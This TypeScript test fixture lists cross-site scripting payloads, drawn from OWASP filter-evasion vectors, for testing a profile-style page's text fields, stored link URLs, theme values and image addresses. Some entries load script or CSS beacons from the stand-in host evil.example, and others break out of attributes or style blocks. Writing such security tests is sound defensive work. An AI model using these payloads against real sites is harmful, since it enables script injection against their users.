// Text an attacker would put into a page's fields (OWASP XSS filter-evasion vectors).
export const TEXT_ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<body onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<!--<script>alert(1)//-->",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "<base href=http://evil.example/>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
];

/** Link URLs a row might hold if written around the API (an import, an old row). */
export const STORED_URL_ATTACKS = [
  "javascript:alert(1)",
  " JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  '"><script>alert(1)</script>',
  "JAVASCRIPT:window.__pwned=1",
  "java\nscript:window.__pwned=1",
  "\u0001javascript:window.__pwned=1",
  "&#106;avascript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript%3Aalert(1)",
  "DaTa:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "//evil.example/",
  "https://bank.example@evil.example/",
];

/** Theme values a row might hold if written around the API. */
export const THEME_ATTACKS: Record<string, unknown>[] = [
  { background_color: "red;}</style><script>alert(1)</script>" },
  { text_color: "#fff;background:url(http://evil.example/t)" },
  { font: "x</style><script>alert(1)</script>" },
  { button_shape: "pill;}body{background:url(http://evil.example/)}" },
  { preset: "<script>" },
  { gradient_angle: "0deg);background:url(http://evil.example/g" },
  { dark: { background_color: "expression(alert(1))" } },
  // Values that land in attributes (the body's classes) or next to url().
  { button_style: 'fill" onmouseover="window.__pwned=1' },
  { layout: 'stack"><script>window.__pwned=1</script>' },
  { background_type: "image", gradient_to: "#fff);background:url(javascript:alert(1))" },
  { font: "Inter;}*{background:url(http://evil.example/f)}" },
];

/** Image addresses a row might hold if written around the API (they land in src= and url()). */
export const STORED_MEDIA_ATTACKS = [
  "javascript:window.__pwned=1",
  '/bio-media/x"onerror="window.__pwned=1',
  '/bio-media/x"); } *{background:url(http://evil.example/m)',
];
